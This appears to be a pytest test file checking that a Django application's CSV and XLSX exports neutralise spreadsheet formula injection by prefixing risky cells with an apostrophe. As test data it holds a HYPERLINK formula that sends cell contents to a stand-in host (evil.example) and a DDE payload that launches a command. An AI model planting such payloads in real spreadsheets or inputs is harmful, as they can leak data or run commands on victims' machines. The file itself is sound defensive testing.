"""Spreadsheet formula injection (issue #15, M5): every CSV/XLSX the system writes goes through the one writer
(apps.core.spreadsheets) and writes a cell starting with = + - @ tab CR as text (a leading apostrophe),
real numbers as numbers.

Each export below is fed the same malicious value where a user can put text (a product name, a sector, a
cooperative name, a rejected import cell) and must not hand it to a spreadsheet as a formula."""

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.core.spreadsheets import csv_lines, safe_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
SAFE = "'" + EVIL
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "value, written",
    [
        (EVIL, SAFE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Nopia", "Nopia"),
        ("a=b", "a=b"),
        ("-5000", "-5000"),  # a number written as text: a spreadsheet reads the number and runs nothing
        ("+6281234567", "+6281234567"),
        ("-1.250,50", "-1.250,50"),
        ("", ""),
        (-5000, -5000),
        (12.5, 12.5),
        (None, None),
        (date(2020, 3, 9), date(2020, 3, 9)),
        ("'=sudah aman", "'=sudah aman"),  # once is enough: made safe twice it is unchanged
    ],
)
def test_safe_cell_table(value, written):
    assert safe_cell(value) == written


def test_csv_lines_quote_the_cell_not_the_number():
    assert list(csv_lines([["nama", "nilai"], [EVIL, -5000]], bom=False)) == [
        "nama,nilai\r\n",
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""klik"")",-5000\r\n',
    ]


def _xlsx_strings(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _xlsx_formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


@pytest.mark.django_db
def test_omzet_ledger_csv(client, operator):
    from apps.core.formatting import WIB
    from apps.omzet.services import omzet_record_sale
    from apps.omzet.tests.factories import make_seller, make_variant

    seller = make_seller(name="@Toko Jahat")
    variant = make_variant(seller=seller, sku="X-1", name="Nopia")
    omzet_record_sale(
        source_key="+shopee:1",
        channel_code="shopee",
        regency_code="33.03",
        variant=variant,
        product_name=EVIL,
        quantity=1,
        amount=45000,
        counted_at=datetime(2019, 12, 1, 10, 0, tzinfo=WIB),
        actor=None,
    )
    client.force_login(operator)
    response = client.get(reverse("omzet:ledger_csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][4:9] == ["'@Toko Jahat", SAFE, "1", "45000", "'+shopee:1"]


@pytest.mark.django_db
def test_leadership_report_xlsx():
    from apps.core.reporting import Row, Section, Table
    from apps.reports.exports import ReportMeta, render_xlsx  # noqa: TID251 (the report's own writer)

    meta = ReportMeta(
        region_code="33.03",
        region_name="Kabupaten Purbalingga",
        parent_name="Jawa Tengah",
        year=2019,
        as_of=date(2020, 3, 9),
        printed_at=datetime(2020, 3, 10, tzinfo=UTC),
    )
    table = Table(key="sektor", title="UMKM per sektor", headers=("Sektor", "Jumlah"), money=False)
    table.rows = [Row(label=EVIL, values=(3,)), Row(label="-1+1", values=(-2,))]
    content = render_xlsx([("+ringkasan", 1, False)], [Section(key="umkm", title="UMKM", tables=[table])], meta)
    assert _xlsx_formulas(content) == []
    strings = _xlsx_strings(content)
    assert {SAFE, "'-1+1", "'+ringkasan"} <= set(strings) and EVIL not in strings
    sheet = load_workbook(io.BytesIO(content))["UMKM"]
    assert [r for r in sheet.iter_rows(values_only=True) if r[0] == "'-1+1"] == [("'-1+1", -2)]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["shopee", "tokopedia"])
def test_marketplace_product_export(client, make_user, fmt):
    from apps.store.tests.factories import make_product, make_seller

    owner = make_user("penjual_jahat", role="mitra_umkm")
    seller = make_seller(shop_name="Toko", owner=owner)
    make_product(seller=seller, name=EVIL, description="@deskripsi", prices=(12_000,))
    client.force_login(owner)
    content = client.get(reverse("store:export", args=[seller.pk, fmt])).content
    assert _xlsx_formulas(content) == []
    strings = _xlsx_strings(content)
    assert SAFE in strings and "'@deskripsi" in strings and EVIL not in strings
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert 12_000 in rows[1]  # the price stays a number


@pytest.mark.django_db
def test_rejected_rows_file(tmp_path):
    from apps.core.actors import COMMAND_LINE
    from apps.imports.framework import run_import

    path = tmp_path / "koperasi.csv"
    path.write_text(
        "nomor_badan_hukum,nama,jenis,tanggal_badan_hukum,kode_wilayah,alamat\n"
        f'SEC/1,"{EVIL.replace(chr(34), chr(34) * 2)}",KSP,bukan-tanggal,33.03.01.2001,@alamat\n',
        encoding="utf-8",
    )
    result = run_import(kind="koperasi", path=path, actor=COMMAND_LINE)
    assert result.run.rejected == 1
    cells = _csv_cells(result.errors_path.read_text(encoding="utf-8-sig"))
    assert SAFE in cells and "'@alamat" in cells and EVIL not in cells


@pytest.mark.django_db
def test_umkm_registry_exports(client, operator):
    from apps.umkm.tests.factories import business_make

    business_make(name=EVIL, sector="+tambah", years={2019: (10_000_000, 100_000_000)})
    client.force_login(operator)
    response = client.get(reverse("umkm:export", args=["csv"]))
    csv_text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert SAFE in _csv_cells(csv_text) and "'+tambah" in _csv_cells(csv_text)
    content = client.get(reverse("umkm:export", args=["xlsx"])).content
    assert _xlsx_formulas(content) == [] and SAFE in _xlsx_strings(content)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_koperasi_registry_exports(client, operator, fmt):
    from apps.koperasi.tests.factories import make_koperasi

    make_koperasi(nama=EVIL, nomor="-BH-1")
    client.force_login(operator)
    content = client.get(reverse("koperasi:list"), {"format": fmt, "as_of": "2020-03-09"}).content
    cells = _csv_cells(content.decode("utf-8-sig")) if fmt == "csv" else _xlsx_strings(content)
    assert SAFE in cells and "'-BH-1" in cells and EVIL not in cells


def test_every_writer_goes_through_the_shared_one():
    """A module that writes CSV or builds a workbook uses apps.core.spreadsheets, not csv.writer or a bare
    Worksheet.append (a new export cannot forget the rule)."""
    offenders = []
    for path in sorted((ROOT / "apps").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if "/tests/" in rel or "/migrations/" in rel or rel == "apps/core/spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        writes = re.search(r"csv\.(writer|DictWriter)\(", text) or re.search(r"\bWorkbook\(", text)
        if writes and ("apps.core.spreadsheets" not in text or re.search(r"\b(ws|sheet)\.append\(", text)):
            offenders.append(rel)
    assert offenders == []


@pytest.mark.django_db
def test_settlement_statement_xlsx(client, operator):
    """A shop name or a fee's reason typed as a formula is written as text in the seller's statement."""
    from datetime import date

    from apps.omzet.tests.factories import make_seller, make_variant
    from apps.settlement.models import Statement
    from apps.settlement.services import adjustment_add, statements_generate
    from apps.settlement.tests.factories import showroom_sale

    seller = make_seller(name='=HYPERLINK("http://x")', district="33.03.05")
    showroom_sale(
        make_variant(seller=seller, sku="F-1", name="@SUM(1)", price=10_000), day=date(2026, 2, 3), quantity=1
    )
    statements_generate(regency_code="33.03", period=date(2026, 2, 1), actor=operator)
    statement = Statement.objects.get()
    adjustment_add(statement=statement, day=date(2026, 2, 5), amount=-1000, reason="+cmd|' /C calc'!A0", actor=operator)
    client.force_login(operator)
    content = client.get(reverse("settlement:xlsx", args=[statement.pk])).content
    assert _xlsx_formulas(content) == []
    strings = _xlsx_strings(content)
    assert '\'=HYPERLINK("http://x")' in strings and "'+cmd|' /C calc'!A0" in strings
